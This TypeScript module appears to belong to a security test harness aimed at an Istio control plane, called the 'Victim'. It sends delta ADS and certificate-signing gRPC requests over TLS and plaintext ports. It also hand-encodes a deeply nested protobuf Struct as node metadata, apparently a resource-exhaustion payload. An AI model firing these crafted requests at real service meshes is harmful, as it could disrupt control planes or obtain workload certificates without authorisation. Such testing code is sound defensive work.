import type { MessageInitShape } from "@bufbuild/protobuf";
import { create, toBinary } from "@bufbuild/protobuf";
import type { NodeSchema } from "@envoyproxy/xds-protos/envoy/config/core/v3/base_pb.js";
import { IstioCertificateRequestSchema, IstioCertificateService } from "@keelson/protos/certificate-service";
import { clusterType, deltaAdsPath, type Ending, GrpcCall, openSession } from "./grpc-call.ts";
import type { Victim } from "./victim.ts";

export type NodeFields = MessageInitShape<typeof NodeSchema>;

export const createCertificatePath = `/${IstioCertificateService.typeName}/${IstioCertificateService.method.createCertificate.name}`;

/** One call, from its connection to its end. @param token shown on the port with TLS; undefined: on the port in the clear */
export async function callOnce(
  { ports }: Victim,
  {
    path,
    headers = {},
    token,
  }: { path: string; headers?: Record<string, string>; token?: string | undefined },
  send: (call: GrpcCall) => void,
): Promise<Ending> {
  const secure = token !== undefined;
  const session = openSession(secure ? ports.secureGrpc : ports.grpc, secure);
  const authorization: Record<string, string> = secure ? { authorization: `Bearer ${token}` } : {};
  const call = new GrpcCall(session, path, { ...headers, ...authorization });
  send(call);
  try {
    return await call.ended;
  } finally {
    session.destroy();
  }
}

/** Asks for clusters as a node. */
export const askAds = (victim: Victim, node: NodeFields, token?: string): Promise<Ending> =>
  callOnce(victim, { path: deltaAdsPath, token }, (call) => call.request({ node, typeUrl: clusterType }));

/** Asks for a certificate. */
export const askCertificate = (victim: Victim, csr: string, token: string): Promise<Ending> =>
  callOnce(victim, { path: createCertificatePath, token }, (call) => {
    call.send(toBinary(IstioCertificateRequestSchema, create(IstioCertificateRequestSchema, { csr })));
    call.end();
  });

/** A Struct in a Struct in a Struct (google/protobuf/struct.proto), as metadata of a DeltaDiscoveryRequest's node. */
export function nestedMetadata(depth: number): Buffer {
  let struct = Buffer.alloc(0);
  for (let level = 0; level < depth; level += 1) {
    const entry = Buffer.concat([field(1, Buffer.from("NAMESPACE")), field(2, field(5, struct))]);
    struct = field(1, entry);
  }
  return Buffer.concat([field(1, field(3, struct)), field(2, Buffer.from(clusterType))]);
}

/** A field of bytes: its tag, its length, itself. */
function field(number: number, bytes: Uint8Array): Buffer<ArrayBuffer> {
  const length = [];
  let rest = bytes.length;
  for (; rest > 127; rest >>>= 7) length.push((rest & 127) | 128);
  return Buffer.concat([Buffer.from([(number << 3) | 2, ...length, rest]), bytes]);
}
